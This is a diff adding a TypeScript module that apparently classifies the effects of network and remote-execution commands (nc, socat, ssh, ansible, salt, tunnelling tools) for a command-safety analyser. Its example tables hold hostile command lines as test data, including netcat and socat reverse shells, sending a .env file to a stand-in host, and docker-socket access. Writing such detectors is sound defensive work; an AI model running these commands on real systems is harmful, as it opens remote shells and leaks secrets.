@@ -1,0 +1,197 @@
+import { reverseShell, shellOf, wordAfter } from '../carried.ts';
+import {
+	data,
+	exec,
+	type Finding,
+	type Invocation,
+	network,
+	opaque,
+	type Program,
+	privilege,
+	role,
+	rows,
+} from '../program.ts';
+import { opensSocket, reads, talksTo, writes } from '../roles.ts';
+import { constant, type Word } from '../word.ts';
+
+/** Programs that open raw connections, remote shells and tunnels. */
+export const connections: readonly Program[] = [
+	rows('nc ncat netcat cryptcat', {
+		options: {
+			...data('-p --source-port -w --wait -s --source -i --idle-timeout -g -G -q -x --proxy -X -T -I -O -P -m -d'),
+			...role('shell', '-c --sh-exec -e --exec --lua-exec'),
+			...role('write', '-o --output --hex-dump'),
+			...role('read', '--ssl-cert --ssl-key --allowfile --denyfile'),
+		},
+		also: connected,
+		examples: {
+			'nc e.example 80': ['network e.example'],
+			'nc -zv e.example 443': ['network e.example'],
+			'nc -e /bin/sh e.example 4': ['opaque', 'network e.example'],
+			'nc -lvp 4444 -e /bin/bash': ['opaque', 'network any host'],
+			"ncat --sh-exec 'rm d' e.example 4": ['opaque', 'network e.example', 'delete d'],
+			'nc -U /var/run/docker.sock': ['privilege commands a daemon of the machine by its socket'],
+			'nc.traditional -c sh e.example 4': ['opaque', 'network e.example'],
+		},
+	}),
+	rows('socat', {
+		also: relayed,
+		examples: {
+			'socat - TCP:e.example:80': ['network e.example'],
+			'socat TCP:e.example:4 EXEC:/bin/sh,pty': ['network e.example', 'opaque'],
+			"socat TCP-LISTEN:4,fork SYSTEM:'rm d'": ['network any host', 'delete d', 'opaque'],
+			'socat - UNIX-CONNECT:/var/run/docker.sock': ['privilege commands a daemon of the machine by its socket'],
+			'socat TCP:e.example:4 FILE:.env': ['network e.example', 'secret.read .env', 'write .env'],
+			'socat -V': [],
+		},
+	}),
+	rows('telnet rlogin rsh tn3270', {
+		also: (it) => it.operands.slice(0, 1).flatMap((word) => talksTo(word.text)),
+		examples: { 'telnet e.example 23': ['network e.example'] },
+	}),
+	rows('ssh autossh slogin dbclient', {
+		options: {
+			...data('-p -l -J -L -R -D -W -m -M -c -b -B -e -O -w -Q -S -P -o'),
+			...role('write', '-E'),
+			...role('script', '-F'),
+			...role('code', '-I'),
+			...role('read', '-i'),
+		},
+		wraps: true,
+		also: remoteCommand,
+		examples: {
+			"ssh host 'rm -rf d'": ['network host', 'delete d recursive'],
+			'ssh -V': [],
+			'ssh -o BatchMode=yes host ls': ['network host', 'read .'],
+			"ssh -o ProxyCommand='rm d' host": ['network host', 'opaque', 'delete d'],
+			'ssh -R 80:localhost:80 e.example': ['network e.example'],
+			"echo 'rm d' | ssh host": ['network host', 'delete d'],
+		},
+	}),
+	rows('sshpass', {
+		options: { ...data('-p -P'), ...role('read', '-f') },
+		operands: 'command',
+		wraps: true,
+		examples: { 'sshpass -p x ssh host ls': ['network host', 'read .'] },
+	}),
+	rows('mosh', {
+		options: { ...role('shell', '--ssh --client'), ...data('-p --port --server --predict') },
+		wraps: true,
+		also: remoteCommand,
+		examples: { 'mosh host -- rm d': ['network host', 'delete d'] },
+	}),
+	rows('pdsh pssh parallel-ssh clush dsh rundeck', {
+		options: { ...data('-w -x -g -l -H -f -t -u -p -o'), ...role('read', '-h --hosts') },
+		wraps: true,
+		also: ({ operands }) => [network('many hosts'), ...(operands.length > 0 ? [shellOf(operands)] : [])],
+		examples: { 'pdsh -w a,b rm d': ['network many hosts', 'delete d'] },
+	}),
+	rows('ansible', {
+		options: data(
+			'-m --module-name -a --args -i --inventory -u --user -l --limit -f --forks -e --extra-vars --become-user --private-key',
+		),
+		also: ansible,
+		examples: {
+			"ansible all -m shell -a 'rm d'": ['network many hosts', 'exec ansible', 'delete d'],
+			'ansible all -m ping': ['network many hosts', 'exec ansible'],
+			"ansible all -b -a 'rm d'": ['network many hosts', 'exec ansible', 'delete d', 'privilege ansible'],
+		},
+	}),
+	rows('salt salt-ssh salt-call', {
+		wraps: true,
+		also: (it) => [
+			network('many hosts'),
+			exec(it),
+			...afterWord(it, /^cmd\.(run|shell|run_all)$/).map((word) => shellOf([word])),
+		],
+		examples: { "salt '*' cmd.run 'rm d'": ['network many hosts', 'exec salt', 'delete d'] },
+	}),
+	rows(
+		'chisel ngrok cloudflared frpc frps localtunnel lt bore tailscale tailscaled zerotier-cli pagekite inlets serveo rathole gost wg-quick openvpn tmate upterm teleconsole sshuttle',
+		{
+			also: (it) => [network('a tunnel'), exec(it)],
+			examples: { 'ngrok http 80': ['network a tunnel', 'exec ngrok'] },
+		},
+	),
+];
+
+/** `nc -e`, `ncat --exec`: the program that it starts is driven by whoever is on the other side. */
+function connected(it: Invocation): readonly Finding[] {
+	const [host] = it.operands;
+	if (it.has('-U', '--unixsock')) return it.operands.flatMap((word) => opensSocket(word, it.scope));
+	const listens = it.has('-l', '--listen');
+	const runs = it.has('-e', '--exec', '-c', '--sh-exec', '--lua-exec');
+	return [
+		...(listens || host === undefined ? [network('any host')] : talksTo(host.text)),
+		...(runs ? [reverseShell(`${it.name} ties a program to a connection`)] : []),
+	];
+}
+
+const networkAddress = /^(tcp|udp|sctp|dccp|openssl|ssl|socks|proxy|vsock|ip|interface|tun|udplite)[\w-]*:/i;
+
+/** socat ties two addresses together; each is a host, a socket, a file or a program. */
+function relayed(it: Invocation): readonly Finding[] {
+	const addresses = it.operands.flatMap((word) => word.text.split('!!').map((text) => ({ ...word, text })));
+	const isConnected = addresses.some((word) => networkAddress.test(word.text));
+	return addresses.flatMap((word) => relayAddress(word, it, isConnected));
+}
+
+function relayAddress(word: Word, it: Invocation, isConnected: boolean): readonly Finding[] {
+	const [, kind = '', rest = ''] = /^([\w-]+):(.*)$/s.exec(word.text) ?? [];
+	const argument = { ...constant(rest.replace(/,[^'"]*$/, '')), known: word.known };
+	if (!word.known && kind === '') return [opaque('an address of socat that cannot be known')];
+	if (/^(exec|system|shell)$/i.test(kind)) {
+		const tied = isConnected ? [reverseShell('socat ties a program to a connection')] : [];
+		return [{ find: 'shell', source: argument }, ...tied];
+	}
+	if (networkAddress.test(word.text)) {
+		if (/listen|recv|-l:/i.test(kind)) return [network('any host')];
+		return talksTo(/^(\[[^\]]*\]|[^:,]*)/.exec(rest)?.[0] ?? rest);
+	}
+	if (/^(unix|abstract)/i.test(kind)) return opensSocket(argument, it.scope);
+	if (/^(file|open|gopen|create|creat|pipe|fifo)/i.test(kind))
+		return [...reads(argument, it.scope), ...writes(argument, it.scope)];
+	return word.text.startsWith('/') ? [...reads(word, it.scope), ...writes(word, it.scope)] : [];
+}
+
+/** Options of ssh whose value is a command line of this machine. */
+const localCommands = /^\s*(proxycommand|localcommand|knownhostscommand|proxyusefdpass)\s*[=\s]\s*/i;
+
+/** Local commands in the `-o` options of ssh and its like. */
+export function sshOptions(it: Invocation): readonly Finding[] {
+	return it.values('-o').flatMap((word) => {
+		const command = localCommands.exec(word.text)?.[0];
+		if (command !== undefined)
+			return [{ find: 'shell' as const, source: wordAfter(word, command.length) }, opaque('ssh runs a local command')];
+		if (/^\s*(pkcs11provider|securitykeyprovider|include|match)\b/i.test(word.text))
+			return [opaque('ssh loads what it is told')];
+		return word.known ? [] : [opaque('an option of ssh that cannot be known')];
+	});
+}
+
+/** What another machine is told to do is judged as if it were told to this one. */
+function remoteCommand(it: Invocation): readonly Finding[] {
+	const [host, ...given] = it.operands;
+	if (host === undefined) return [];
+	const command = given[0]?.text === '--' ? given.slice(1) : given;
+	const isFed = command.length === 0 && it.stdin !== undefined && !it.has('-N', '-n');
+	return [
+		...talksTo(host.text.replace(/^ssh:\/\//, '').replace(/^.*@/, '')),
+		...sshOptions(it),
+		...(command.length > 0 ? [shellOf(command)] : []),
+		...(isFed ? [{ find: 'feed' as const }] : []),
+	];
+}
+
+/** Ansible's default module is `command`; `raw`, `shell` and `command` take a command line. */
+function ansible(it: Invocation): readonly Finding[] {
+	const [module] = it.values('-m', '--module-name');
+	const takesCommand = module === undefined || /^(ansible\.builtin\.)?(shell|command|raw)$/.test(module.text);
+	const lines = takesCommand ? it.values('-a', '--args').map((word) => shellOf([word])) : [];
+	const rises = it.has('-b', '--become', '-K', '--become-user') ? [privilege('ansible')] : [];
+	return [network('many hosts'), exec(it), ...rises, ...lines];
+}
+
+function afterWord({ words }: Invocation, pattern: RegExp): readonly Word[] {
+	return words.filter((_, i) => pattern.test(words[i - 1]?.text ?? ''));
+}
